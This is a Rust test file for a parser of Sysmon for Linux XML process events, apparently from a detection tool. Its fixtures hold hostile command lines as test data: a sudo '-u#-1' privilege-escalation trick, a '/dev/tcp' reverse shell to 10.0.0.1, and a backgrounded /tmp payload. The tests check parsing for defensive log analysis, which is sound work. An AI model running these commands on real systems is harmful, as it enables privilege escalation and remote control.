//! Sysmon for Linux XML: the verbatim docs/field-guide.md §2 event, truncation, escapes, and
//! events sighunt does not use.

use std::sync::Arc;

use super::*;
use crate::event::Position;

/// docs/field-guide.md §2 (frack113/sigmacatch `SUDO_CVE_LINE`), XML part.
const EID1: &str = r#"<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-08-23T08:30:16.754997Z"/><EventRecordID>75947</EventRecordID><Correlation/><Execution ProcessID="1120" ThreadID="1120"/><Channel>Linux-Sysmon/Operational</Channel><Computer>sigmacatch-linux</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2026-08-23 08:30:16.750</Data><Data Name="ProcessGuid">{ae88b96f-a8aa-6a8a-ad9d-cfc3e2550000}</Data><Data Name="ProcessId">6201</Data><Data Name="Image">/usr/bin/sudo</Data><Data Name="FileVersion">-</Data>…<Data Name="OriginalFileName">-</Data><Data Name="CommandLine">sudo -u#-1 id</Data><Data Name="CurrentDirectory">/root</Data><Data Name="User">root</Data><Data Name="LogonGuid">{ae88b96f-0000-0000-0000-000000000000}</Data><Data Name="LogonId">0</Data><Data Name="TerminalSessionId">4294967295</Data><Data Name="IntegrityLevel">no level</Data><Data Name="Hashes">SHA256=157ccb43…</Data><Data Name="ParentProcessGuid">{ae88b96f-a8aa-6a8a-c521-477bd6550000}</Data><Data Name="ParentProcessId">1123</Data><Data Name="ParentImage">/usr/bin/bash</Data><Data Name="ParentCommandLine">bash</Data><Data Name="ParentUser">root</Data></EventData></Event>"#;

fn provenance() -> Provenance {
    Provenance {
        path: Arc::from("syslog"),
        position: Position::Line(1),
        format: FORMAT,
    }
}

#[test]
fn event_1_fields() {
    let rec = parse(EID1).unwrap();
    assert!(!rec.truncated);
    assert_eq!(rec.provider, "Linux-Sysmon");
    assert_eq!(rec.event_id, Some(1));
    assert_eq!(rec.computer, "sigmacatch-linux");
    assert_eq!(rec.get("FileVersion"), None, "`-` is no value");
    assert_eq!(rec.get("Hashes"), Some("SHA256=157ccb43…"));
    let Some(Event::Process(p)) = to_event(&rec, "", None, provenance()) else {
        panic!()
    };
    assert_eq!(
        p.time.unwrap().to_rfc3339(),
        "2026-08-23T08:30:16.754997+00:00"
    );
    assert_eq!(
        p.process_guid.as_deref(),
        Some("{ae88b96f-a8aa-6a8a-ad9d-cfc3e2550000}")
    );
    assert_eq!(
        p.parent_process_guid.as_deref(),
        Some("{ae88b96f-a8aa-6a8a-c521-477bd6550000}")
    );
    assert_eq!(p.parent_command_line.as_deref(), Some("bash"));
    assert_eq!(p.cwd.as_deref(), Some("/root"));
    assert_eq!(p.user.as_deref(), Some("root"));
    assert_eq!(p.original_file_name, None);
    assert_eq!(p.platform, Platform::Unix);
}

#[test]
fn truncated_events_keep_what_was_read() {
    // A syslog daemon cut the line in the middle of CommandLine.
    let cut = EID1.find("-u#-1 id").unwrap();
    let rec = parse(&EID1[..cut]).unwrap();
    assert!(rec.truncated);
    assert_eq!(rec.get("Image"), Some("/usr/bin/sudo"));
    assert_eq!(rec.get("CommandLine"), Some("sudo "));
    let Some(Event::Process(p)) = to_event(&rec, "fallback", None, provenance()) else {
        panic!()
    };
    assert_eq!(p.argv, ["sudo"]);
    assert_eq!(p.ppid, None, "cut before ParentProcessId");
    // Cut inside a tag or an attribute.
    for end in [20, 60, 200, 400, EID1.len() - 3] {
        let mut e = end;
        while !EID1.is_char_boundary(e) {
            e -= 1;
        }
        let _ = parse(&EID1[..e]);
    }
    // Cut before the event id: nothing to say.
    assert_eq!(parse(&EID1[..60]), None);
}

#[test]
fn escapes_sh_c_strings_and_syslog_fallbacks() {
    let xml = EID1
        .replace(
            "sudo -u#-1 id",
            "sh -c nohup /tmp/x &gt;/dev/null 2&gt;&amp;1 &amp;",
        )
        .replace(
            "<Computer>sigmacatch-linux</Computer>",
            "<Computer></Computer>",
        )
        .replace(
            "<TimeCreated SystemTime=\"2026-08-23T08:30:16.754997Z\"/>",
            "",
        );
    let rec = parse(&xml).unwrap();
    let Some(Event::Process(p)) = to_event(&rec, "host-from-syslog", None, provenance()) else {
        panic!()
    };
    assert_eq!(p.argv, ["sh", "-c", "nohup /tmp/x >/dev/null 2>&1 &"]);
    assert_eq!(p.host, "host-from-syslog");
    // UtcTime stands in for TimeCreated.
    assert_eq!(
        p.time.unwrap().to_rfc3339(),
        "2026-08-23T08:30:16.750+00:00"
    );
}

#[test]
fn other_events_and_non_events() {
    let eid5 = EID1.replace("<EventID>1</EventID>", "<EventID>5</EventID>");
    assert!(to_event(&parse(&eid5).unwrap(), "", None, provenance()).is_none());
    assert_eq!(parse("no xml here"), None);
    assert_eq!(parse("<Events><x/></Events>"), None);
    assert_eq!(parse("<Event"), None);
}

#[test]
fn command_line_is_argv_joined_by_spaces_kept_byte_true() {
    // argv ["python3", "-c", "print('a  b')"] and ["sh", "-c", "x='1'  \"y\""]: the
    // quotes are argument text, the double space belongs to the -c string.
    for (logged, argv) in [
        (
            "python3 -c print('a  b')",
            &["python3", "-c", "print('a  b')"][..],
        ),
        (
            "nohup bash -c bash -i >& /dev/tcp/10.0.0.1/9 0>&1",
            &["nohup", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/9 0>&1"][..],
        ),
        ("sh -c x='1'  \"y\"", &["sh", "-c", "x='1'  \"y\""][..]),
        (
            "/usr/bin/nohup /tmp/it's",
            &["/usr/bin/nohup", "/tmp/it's"][..],
        ),
    ] {
        let escaped = logged
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;");
        let xml = EID1.replace("sudo -u#-1 id", &escaped);
        let Some(Event::Process(p)) = to_event(&parse(&xml).unwrap(), "", None, provenance())
        else {
            panic!()
        };
        assert_eq!(p.command_line, logged, "kept as logged");
        assert_eq!(p.argv, argv, "{logged}");
    }
}
